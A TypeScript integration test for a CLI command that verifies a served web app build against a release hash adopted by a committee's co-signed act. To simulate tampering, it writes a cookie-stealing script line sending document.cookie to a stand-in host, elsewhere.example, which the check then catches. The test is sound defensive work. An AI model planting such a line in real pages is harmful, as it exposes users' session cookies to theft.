// `collegium check-app`, as a delegate runs it from their own machine against a real server
// (SQLite) serving a web app build: the organization adopts the build by a software.release
// act co-signed by the Central Committee (statute §10.6), and the check passes; then the
// operator swaps a script, and then also rewrites release.json to match: each is caught.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { MODEL_STATUTE } from '../../src/constitution/model-statute.js';
import type { SoftwareRelease } from '../../src/governance/collective.js';
import { loadOrCreateLogKey } from '../../src/server/log-key.js';
import { createLogger } from '../../src/server/logger.js';
import { startServer } from '../../src/server/server.js';
import { openStore } from '../../src/store/open.js';
import { collegium } from '../cli/helpers.js';
import { getJson, TestOrg } from './client.js';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** A small build laid out as `npm run build:web` lays it out, with its release.json. */
function writeBuild(dir: string, script: string): string {
  const files: Record<string, string> = {
    'index.html': '<!doctype html><html><head><script type="module" src="/assets/app.js"></script></head><body></body></html>',
    'assets/app.js': script,
  };
  mkdirSync(join(dir, 'assets'), { recursive: true });
  for (const [path, text] of Object.entries(files)) writeFileSync(join(dir, path), text);
  const release = JSON.stringify({ algorithm: 'sha256', files: Object.fromEntries(Object.entries(files).map(([p, t]) => [p, sha256(t)])) });
  writeFileSync(join(dir, 'release.json'), release);
  return sha256(release);
}

test('check-app: an adopted build passes; a swapped script, and a swapped build with its own release.json, are caught', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'collegium-check-app-'));
  const webDir = join(dir, 'web');
  const adopted = writeBuild(webDir, 'console.log("the app the congress adopted");');
  const store = await openStore({ data: join(dir, 'data') });
  const server = await startServer({ store, logKey: loadOrCreateLogKey(join(dir, 'log-key.json')), port: 0, log: createLogger({ quiet: true }), webDir });
  try {
    const org = await TestOrg.found(server.url, { constitution: MODEL_STATUTE, seats: { 'central-committee': ['ana', 'ben', 'cai'] } });

    // Nothing adopted yet: the app cannot be vouched for.
    let run = await collegium(['check-app', server.url]);
    assert.equal(run.code, 4, run.stderr);
    assert.match(run.stdout, /NOT an adopted release/);
    assert.match(run.stdout, /adopts no release yet/);

    // One member alone adopts nothing: the act waits for more than half of the Central Committee.
    const proposed = await org.ok('ana', 'collective.propose', { act: { type: 'software.release', body: { version: '1.0.0', release: adopted, notes: 'Congress build' } } });
    const pending = (proposed.events as unknown as { type: string; pending?: { id: string } }[]).find((e) => e.type === 'collective.proposed')!.pending!.id;
    assert.equal((await getJson<{ items: SoftwareRelease[] }>(server.url, '/api/releases')).items.length, 0);
    run = await collegium(['check-app', server.url]);
    assert.equal(run.code, 4);
    await org.ok('ben', 'collective.cosign', { pending });
    const releases = (await getJson<{ items: SoftwareRelease[] }>(server.url, '/api/releases')).items;
    assert.deepEqual(releases.map((r) => [r.version, r.release, [...r.signers].sort()]), [['1.0.0', adopted, ['ana', 'ben']]]);

    run = await collegium(['check-app', server.url]);
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.match(run.stdout, /serves release 1\.0\.0, adopted at entry \d+/);
    assert.match(run.stdout, /every file matches \(3\)/);
    const json = JSON.parse((await collegium(['check-app', server.url, '--json'])).stdout) as { ok: boolean; adopted: { version: string } };
    assert.equal(json.ok, true);
    assert.equal(json.adopted.version, '1.0.0');

    // A version is one build: the same version with other bytes is refused.
    const taken = await org.act('cai', 'collective.propose', { act: { type: 'software.release', body: { version: '1.0.0', release: sha256('another build') } } });
    assert.equal(taken.status, 409);
    assert.equal(taken.body.error?.code, 'software.version_taken');

    // The operator swaps the script and leaves release.json alone: the file is named.
    writeFileSync(join(webDir, 'assets', 'app.js'), 'fetch("https://elsewhere.example/" + document.cookie);');
    run = await collegium(['check-app', server.url]);
    assert.equal(run.code, 4);
    assert.match(run.stdout, /serves release 1\.0\.0/);
    assert.match(run.stdout, /file assets\/app\.js: SHA-256 [0-9a-f]{64}, release\.json says [0-9a-f]{64}/);

    // The operator writes a whole build of their own, with a release.json that matches it.
    const forged = writeBuild(webDir, 'fetch("https://elsewhere.example/" + document.cookie);');
    run = await collegium(['check-app', server.url]);
    assert.equal(run.code, 4);
    assert.match(run.stdout, new RegExp(`NOT an adopted release \\(release\\.json SHA-256 ${forged}\\)`));
    assert.match(run.stdout, /adopted releases: 1\.0\.0/);

    // Bad input: a usage error, not a crash.
    run = await collegium(['check-app', 'not-a-url']);
    assert.equal(run.code, 1);
    assert.match(run.stderr, /not an http\(s\) URL/);
  } finally {
    await server.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
